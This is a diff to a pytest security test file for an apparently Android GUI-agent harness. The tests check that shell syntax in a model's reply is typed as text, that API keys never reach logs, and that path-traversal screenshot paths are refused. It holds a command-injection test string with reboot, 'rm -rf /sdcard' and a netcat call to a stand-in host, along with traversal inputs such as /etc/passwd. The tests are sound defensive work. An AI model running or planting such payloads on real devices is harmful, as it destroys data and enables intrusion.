@@ -70,12 +70,8 @@ def test_agent_text_with_shell_metacharacters_runs_nothing_on_the_device(says_ph
 def test_injection_in_a_model_reply_is_typed_as_text(adb, serve_sim, tmp_path, capsys):
     """A model answering with shell syntax in its type() argument: the words are typed into the
     focused field, and no other program runs."""
-    import agents  # noqa: F401
     from harness.cli import main
-    from harness.registry import AGENTS
 
-    if "uitars" not in AGENTS.entries:
-        pytest.skip("the uitars agent is not registered")
     s = serve_sim(width=540, height=1200)
     sh = s.handle.device.shell
     evil = "$(reboot); rm -rf /sdcard `id` | nc evil 1 && echo pwned > /sdcard/x"
@@ -211,9 +207,8 @@ def test_api_keys_never_reach_records_logs_manifests_or_errors(adb, serve_sim, t
     from harness.cli import main
     from harness.registry import AGENTS, JUDGES
 
-    model_agents = [n for n in ("uitars", "qwen", "vlm") if n in AGENTS.entries]
-    if not model_agents:
-        pytest.skip("no model-backed agent is registered")
+    model_agents = ["uitars"]
+    assert "uitars" in AGENTS.entries and "crate" in JUDGES.entries  # ours: a missing one fails, never skips
     monkeypatch.setenv("CRATE_FAULT_KEY", KEY)
     caplog.set_level(logging.DEBUG)
     s = serve_sim(width=540, height=1200)
@@ -318,8 +313,19 @@ def _png(path: Path, color=(10, 20, 30)) -> None:
     Image.new("RGB", (40, 80), color).save(path, format="PNG")
 
 
-@pytest.mark.parametrize("shot", ["/etc/passwd", "../outside.png", "screens/../../outside.png", "..\\outside.png",
-                                  "C:\\Windows\\x.png", "symlink", "symlink-scan", "symlink-dir"])
+ESCAPES = {  # how each is refused: the file, the step and the field, and why
+    "/etc/passwd": "ep1: step 2 screenshot: must be a relative path inside the episode folder, got absolute path",
+    "../outside.png": "ep1: step 2 screenshot: must not contain '..' components",
+    "screens/../../outside.png": "ep1: step 2 screenshot: must not contain '..' components",
+    "..\\outside.png": "ep1: step 2 screenshot: must not contain '..' components",
+    "C:\\Windows\\x.png": "ep1: step 2 screenshot: must be a relative path inside the episode folder, got absolute path",
+    "symlink": "ep1/1.png: resolves outside the episode folder (a symlink?); refused",
+    "symlink-scan": "ep1/1.png: resolves outside the episode folder (a symlink?); refused",
+    "symlink-dir": "ep1/screenshots/0.png: resolves outside the episode folder (a symlink?); refused",
+}
+
+
+@pytest.mark.parametrize("shot", list(ESCAPES))
 def test_imported_trajectories_with_escaping_screenshot_paths_are_refused(tmp_path, shot):
     from harness.importers.trajectories import TrajectoryImportError, import_trajectories
 
@@ -351,8 +357,8 @@ def test_imported_trajectories_with_escaping_screenshot_paths_are_refused(tmp_pa
     out = tmp_path / "run"
     with pytest.raises(TrajectoryImportError) as e:
         import_trajectories(src, "androidworld", out)
-    assert "outside" in str(e.value) or "absolute" in str(e.value) or "'..'" in str(e.value), str(e.value)
-    assert not (out / "results.jsonl").exists() or not (out / "results.jsonl").read_text()
+    assert ESCAPES[shot] in str(e.value), str(e.value)
+    assert not (out / "results.jsonl").exists()  # refused before any episode was recorded
     if out.exists():  # nothing from outside the source was copied in
         red = (tmp_path / "outside.png").read_bytes()
         assert not any(p.is_file() and p.read_bytes() == red for p in out.rglob("*"))
@@ -374,15 +380,12 @@ def test_records_with_escaping_screen_paths_are_refused_by_readers_and_the_viewe
     traj.write_text(json.dumps({"index": 1, "screen_before": "../../../secret.png"}) + "\n")
     with pytest.raises(RecordError, match="'..'"):
         list(iter_steps(traj.parent))
-    try:
-        write_viewer(tmp_path / "run")
-    except ValueError:
-        return  # refused outright
+    index = write_viewer(tmp_path / "run")  # the run is shown; the refused line is a warning naming file, line, field
+    assert "trajectory.jsonl:1: screen_before: must not contain &#x27;..&#x27; components" in index.read_text("utf-8")
     for p in (tmp_path / "run" / "report").rglob("*"):
         if p.suffix == ".html":
             assert "secret.png" not in p.read_text(encoding="utf-8"), p
-    thumbs = list((tmp_path / "run" / "report").rglob("*.jpg"))
-    assert len(thumbs) <= 1  # at most the episode's own 000.png
+    assert list((tmp_path / "run" / "report").rglob("*.jpg")) == []  # no step was read, so no screen was shown
 
 
 # --- everything listens on loopback unless told otherwise -------------------------------------------------
